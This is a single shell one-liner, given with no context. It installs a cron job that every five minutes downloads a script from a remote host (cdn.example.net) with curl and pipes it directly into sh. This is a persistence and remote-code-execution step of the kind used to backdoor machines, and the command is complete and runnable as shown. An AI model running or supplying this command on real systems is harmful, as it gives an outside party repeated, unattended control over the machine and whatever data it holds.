(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s https://cdn.example.net/j | sh") | crontab -
